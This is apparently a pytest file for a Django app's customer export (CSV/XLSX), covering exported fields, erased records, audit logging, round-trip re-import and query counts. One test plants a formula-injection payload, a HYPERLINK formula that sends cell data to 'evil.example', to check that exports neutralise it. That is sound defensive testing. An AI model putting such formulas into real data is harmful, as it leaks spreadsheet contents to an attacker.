"""Customers as a file: what the user may see, safe to open, and written down."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from core.models import Event
from customers.actions import add_customer, set_custom
from customers.actions.importing import begin_import, check_import, start_import
from customers.models import Customer, CustomField
from customers.spreadsheets import read_table

pytestmark = pytest.mark.django_db


@pytest.fixture
def export(sign_in, supervisor):
    def export_as(form, **query):
        answer = sign_in(supervisor).post("/customers/export/", {"format": form, **query})
        assert answer.status_code == 200
        return b"".join(answer.streaming_content)

    return export_as


def rows_of(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_all_that_is_known_stands_in_the_file(export, carol):
    CustomField.objects.create(owner="customer", code="card", name="Card", kind="text")
    set_custom(carol, {"card": "4711"}, actor=None)
    [row] = rows_of(export("csv"))
    assert (row["Name"], row["E-mail"], row["Tier"]) == (
        "Carol Ashworth",
        "carol@example.org",
        "standard",
    )
    assert (row["Phone"], row["Card"]) == ("'+44 7700 900123", "4711")


def test_nothing_in_it_is_run_by_a_spreadsheet(export):
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    add_customer(name=evil, email="e@example.org", notes="@SUM(1)", actor=None)
    [row] = rows_of(export("csv"))
    assert (row["Name"], row["Notes"]) == (f"'{evil}", "'@SUM(1)")
    sheet = load_workbook(io.BytesIO(export("xlsx"))).active
    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}


def test_erased_people_and_others_than_looked_for_are_not_in_it(export, carol):
    add_customer(name="Dan Brown", email="dan@example.org", actor=None)
    gone = add_customer(name="Gone", email="gone@example.org", actor=None)
    Customer.objects.filter(pk=gone.pk).update(erased_at=gone.created_at)
    assert len(rows_of(export("csv"))) == 2
    assert [row["Name"] for row in rows_of(export("csv", q="carol"))] == ["Carol Ashworth"]


def test_it_is_written_down(export, supervisor, carol):
    export("xlsx", q="carol")
    event = Event.objects.get(name="customers.exported")
    assert (event.actor_id, event.details) == (supervisor.pk, {"format": "xlsx", "count": 1})


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_what_was_exported_comes_back_unchanged(export, carol, supervisor, react, form):
    carol.notes = "=1+1"
    carol.save()
    run = begin_import(read_table(f"f.{form}", export(form)), actor=supervisor)
    check_import(run, mapping=run.mapping, duplicates="update", actor=supervisor)
    start_import(run, actor=supervisor)
    react()
    run.refresh_from_db()
    carol.refresh_from_db()
    assert (run.added, run.changed, run.errors) == (0, 0, [])
    assert carol.notes == "=1+1"


def test_it_costs_the_same_queries_for_many(export, carol):
    costs = []
    for number in range(30):
        if number in (0, 29):
            with CaptureQueriesContext(connection) as asked:
                export("csv")
            costs.append(len(asked))
        add_customer(name=f"P {number}", email=f"p{number}@example.org", actor=None)
    assert costs[1] <= costs[0] + 1
